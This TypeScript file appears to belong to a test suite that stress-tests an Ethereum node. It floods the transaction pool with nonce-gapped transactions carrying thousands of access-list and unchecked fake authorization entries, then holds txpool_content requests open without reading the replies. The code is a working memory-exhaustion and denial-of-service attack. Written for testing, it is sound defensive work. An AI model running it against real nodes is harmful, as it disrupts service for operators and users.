import { type Hex, numberToHex } from "viem";
import { keccak256 } from "../../../../src/primitives/hash.ts";
import { concatBytes, toHex } from "../../../../src/primitives/hex.ts";
import { bigintToBytes } from "../../../../src/primitives/quantity.ts";
import { encodeRlpList, encodeRlpString } from "../../../../src/primitives/rlp.ts";
import { sign } from "../../../../src/primitives/secp256k1.ts";
import { pause } from "../../pause.ts";
import { accounts } from "../../workload.ts";
import {
  type AttackedNode,
  type CallerAttack,
  connectFrom,
  httpRequest,
  keepAsking,
} from "./callerAttack.ts";

/** Each of 120 kB, as entries without keys, which take most memory. */
const ACCESSED_ADDRESSES = 5_200;
const AUTHORIZATIONS = 1_180;
/** Twice as many as a pool of 64 MB took when this was written. */
const TRANSACTIONS_OF_EACH_SENDER = 20;
const GAS = 40_000_000n;
const CHAIN_ID = 1337n;

/**
 * Ten senders fill the pool with transactions behind nonce gaps whose access and authorization lists have thousands of entries;
 * then four addresses ask for the whole pool, and two of them read nothing.
 */
export const poolParts: CallerAttack = {
  name: "access and authorization lists behind nonce gaps",
  options: ["--rpc-http-api=ETH,TXPOOL"],
  genesis: { config: { pragueTime: 0 } },
  async prepare(node) {
    const lists = [accessListTransactions(), authorizationListTransactions()] as const;
    return async (isOver) => {
      await Promise.all(accounts.map((_, sender) => fill(node, sender, lists, isOver)));
      await Promise.all([
        ...["127.0.0.2", "127.0.0.3"].map((from) =>
          keepAsking(node, from, () => httpRequest("txpool_content", []), isOver),
        ),
        ...["127.0.0.4", "127.0.0.5"].map((from) => keepUnread(node, from, isOver)),
      ]);
    };
  },
};

/** A transaction of an account by its nonce, signed when it is sent. */
type Sign = (nonce: number, privateKey: Uint8Array) => Hex;

async function fill(
  { client, tally }: AttackedNode,
  sender: number,
  lists: readonly Sign[],
  isOver: () => boolean,
): Promise<void> {
  const account = accounts[sender];
  const signed = lists[sender % lists.length];
  if (account === undefined || signed === undefined) throw new Error("no such sender");
  const next = Number(await client.call<string>("eth_getTransactionCount", [account.address, "latest"]));
  for (let index = 1; index <= TRANSACTIONS_OF_EACH_SENDER && !isOver(); index++) {
    try {
      await client.call("eth_sendRawTransaction", [signed(next + index, account.privateKey)]);
      tally.note("transactions taken");
    } catch (error) {
      tally.note(String(error instanceof Error ? error.message : error));
    }
  }
}

async function keepUnread({ port, tally }: AttackedNode, from: string, isOver: () => boolean): Promise<void> {
  while (!isOver()) {
    const socket = connectFrom(from, port);
    socket.write(httpRequest("txpool_content", []));
    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
    while (!isOver() && !socket.destroyed) await Promise.race([closed, pause(100)]);
    if (!isOver()) tally.note("unread connections cut");
    socket.destroy();
  }
}

function accessListTransactions(): Sign {
  const entries = Array.from({ length: ACCESSED_ADDRESSES }, (_, index) =>
    encodeRlpList([encodeRlpString(addressBytes(index)), encodeRlpList([])]),
  );
  const accessList = encodeRlpList(entries);
  return (nonce, privateKey) =>
    signTyped(0x01, privateKey, [
      scalar(CHAIN_ID),
      scalar(BigInt(nonce)),
      scalar(GWEI),
      scalar(GAS),
      encodeRlpString(addressBytes(1)),
      scalar(0n),
      scalar(0n),
      accessList,
    ]);
}

/** The authorizations are of nobody's signature, which a pool does not check. */
function authorizationListTransactions(): Sign {
  const signature = [
    scalar(0n),
    scalar(BigInt(`0x7${"1".repeat(63)}`)),
    scalar(BigInt(`0x3${"1".repeat(63)}`)),
  ];
  const entries = Array.from({ length: AUTHORIZATIONS }, (_, index) =>
    encodeRlpList([scalar(CHAIN_ID), encodeRlpString(addressBytes(index)), scalar(0n), ...signature]),
  );
  const authorizationList = encodeRlpList(entries);
  return (nonce, privateKey) =>
    signTyped(0x04, privateKey, [
      scalar(CHAIN_ID),
      scalar(BigInt(nonce)),
      scalar(GWEI),
      scalar(GWEI),
      scalar(GAS),
      encodeRlpString(addressBytes(1)),
      scalar(0n),
      scalar(0n),
      encodeRlpList([]),
      authorizationList,
    ]);
}

function signTyped(type: number, privateKey: Uint8Array, fields: readonly Uint8Array[]): Hex {
  const typed = (items: readonly Uint8Array[]): Uint8Array =>
    concatBytes(Uint8Array.of(type), encodeRlpList(items));
  const { r, s, yParity } = sign(keccak256(typed(fields)), privateKey);
  return toHex(typed([...fields, scalar(BigInt(yParity)), scalar(r), scalar(s)]));
}

function addressBytes(index: number): Uint8Array {
  return Buffer.from(numberToHex(0x1000_0000 + index, { size: 20 }).slice(2), "hex");
}

function scalar(value: bigint): Uint8Array {
  return encodeRlpString(bigintToBytes(value));
}

const GWEI = 1_000_000_000n;
